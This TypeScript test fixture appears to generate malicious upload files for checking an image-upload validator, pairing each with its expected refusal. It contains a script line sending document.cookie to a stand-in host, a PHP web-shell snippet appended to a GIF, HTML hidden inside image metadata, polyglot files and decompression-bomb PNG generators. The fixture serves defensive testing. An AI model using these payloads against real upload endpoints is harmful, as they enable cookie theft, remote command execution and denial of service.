import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { noiseBytes, picture } from './pictures.ts';

interface HostileFile {
  name: string;
  type: string;
  bytes: Buffer;
  refusal: { statusCode: string; message: string | RegExp };
}

const notAnImage = (type: string) => ({
  statusCode: '415',
  message: `The content is not ${type}: only JPEG, PNG, WebP, AVIF and GIF images are accepted`,
});
const broken = { statusCode: '422', message: 'The image is broken or was cut short' };
const alsoContains = (what: string) => ({ statusCode: '422', message: `The image also contains ${what}` });
const script = '<script>fetch("//evil.test/"+document.cookie)</script>';

/** Files made to be refused, each with the words it is refused with. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png, gif, webp, avif] = await Promise.all([
    picture('jpeg', { width: 90, height: 60, noise: true }),
    picture('png', { width: 90, height: 60, noise: true }),
    picture('gif'),
    picture('webp', { width: 90, height: 60, noise: true }),
    picture('avif', { width: 90, height: 60, noise: true }),
  ]);
  const cut = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length * 0.6));
  const limit = 5 * 1024 * 1024;
  const padded = (length: number) => Buffer.concat([png, Buffer.alloc(length - png.length)]);

  return [
    file(
      'page.png',
      'image/png',
      Buffer.from(`<!doctype html><html>${script}</html>`),
      notAnImage('image/png'),
    ),
    file('script.jpg', 'image/jpeg', Buffer.from('alert(1)'), notAnImage('image/jpeg')),
    file('program.gif', 'image/gif', Buffer.from('MZ\x90\x00\x03', 'latin1'), notAnImage('image/gif')),
    file('drawing.svg', 'image/svg+xml', svg(), {
      statusCode: '415',
      message: 'mime type image/svg+xml is not supported',
    }),
    file('drawing.png', 'image/png', svg(), notAnImage('image/png')),
    file('paper.png', 'image/png', Buffer.from('%PDF-1.7\n'), notAnImage('image/png')),
    file('scan.webp', 'image/webp', await sharp(jpeg).tiff().toBuffer(), notAnImage('image/webp')),
    file('empty.png', 'image/png', Buffer.alloc(0), notAnImage('image/png')),
    file('page.html', 'text/html', Buffer.from(script), {
      statusCode: '415',
      message: 'mime type text/html is not supported',
    }),
    file('other.png', 'image/png', jpeg, {
      statusCode: '415',
      message: 'The content is image/jpeg, not image/png as it claims',
    }),
    file('charset.png', 'image/png;charset=x', png, {
      statusCode: '415',
      message: 'mime type image/png;charset=x is not supported',
    }),

    file('html-behind.jpg', 'image/jpeg', Buffer.concat([jpeg, Buffer.from(script)]), alsoContains('HTML')),
    file('html-within.jpg', 'image/jpeg', withComment(jpeg, script), alsoContains('HTML')),
    file('html-within.png', 'image/png', withText(png, script), alsoContains('HTML')),
    file(
      'php-behind.gif',
      'image/gif',
      Buffer.concat([gif, Buffer.from('<?php system($_GET[0]);')]),
      alsoContains('PHP'),
    ),
    file(
      'pdf-behind.png',
      'image/png',
      Buffer.concat([png, Buffer.from('%PDF-1.4\n1 0 obj')]),
      alsoContains('PDF'),
    ),
    file('zip-behind.gif', 'image/gif', Buffer.concat([gif, emptyZip('')]), alsoContains('ZIP')),
    file('jar-behind.webp', 'image/webp', Buffer.concat([webp, emptyZip('a comment')]), alsoContains('ZIP')),
    file('javascript.gif', 'image/gif', Buffer.from('GIF89a/*\x01\x00*/=1;alert(1)//', 'latin1'), broken),

    file('cut.jpg', 'image/jpeg', cut(jpeg), broken),
    file('cut.png', 'image/png', cut(png), broken),
    file('cut.gif', 'image/gif', cut(gif), broken),
    file('cut.webp', 'image/webp', cut(webp), broken),
    file('cut.avif', 'image/avif', cut(avif), broken),
    file('head-only.png', 'image/png', png.subarray(0, 8), broken),
    file('noise.png', 'image/png', Buffer.concat([png.subarray(0, 8), noiseBytes(2000)]), broken),

    file('bomb.png', 'image/png', flatPng(20_000, 20_000), {
      statusCode: '422',
      message: 'The image has more than 40 megapixels (20000 × 20000)',
    }),
    file('just-over.png', 'image/png', flatPng(6400, 6251), {
      statusCode: '422',
      message: 'The image has more than 40 megapixels (6400 × 6251)',
    }),
    file('huge-sides.png', 'image/png', pngHeader(2_000_000_000, 2_000_000_000), {
      statusCode: '422',
      message: /broken|megapixels/,
    }),
    file('huge-sides.gif', 'image/gif', gifHeader(65_535, 65_535), {
      statusCode: '422',
      message: /broken|megapixels/,
    }),

    file('one-byte-over.png', 'image/png', padded(limit + 1), {
      statusCode: '413',
      message: 'The object exceeded the maximum allowed size',
    }),
    // More than the file and all that a form may carry besides: refused by its announced length.
    file('much-over.png', 'image/png', padded(limit + 1024 * 1024 + 1024), {
      statusCode: '413',
      message: 'The object exceeded the maximum allowed size',
    }),
  ];
}

function file(name: string, type: string, bytes: Buffer, refusal: HostileFile['refusal']): HostileFile {
  return { name, type, bytes, refusal };
}

function svg(): Buffer {
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`);
}

/** A comment segment right after the start of the image. */
function withComment(jpeg: Buffer, text: string): Buffer {
  const segment = Buffer.from(`\xff\xfe\0\0${text}`, 'latin1');
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

/** A tEXt chunk right after the header chunk, which ends at byte 33. */
function withText(png: Buffer, text: string): Buffer {
  return Buffer.concat([
    png.subarray(0, 33),
    chunk('tEXt', Buffer.from(`Comment\0${text}`)),
    png.subarray(33),
  ]);
}

function emptyZip(comment: string): Buffer {
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([end, Buffer.from(comment)]);
}

const pngSignature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

/** One bit a pixel and all of them the same: hundreds of megapixels in a few kilobytes. */
export function flatPng(width: number, height: number): Buffer {
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  return Buffer.concat([
    pngHeader(width, height),
    chunk('IDAT', deflateSync(rows, { level: 1 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  return Buffer.concat([pngSignature, chunk('IHDR', header)]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function gifHeader(width: number, height: number): Buffer {
  const header = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  header.writeUInt16LE(width, 6);
  header.writeUInt16LE(height, 8);
  return Buffer.concat([header, Buffer.from(',\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\0;', 'latin1')]);
}
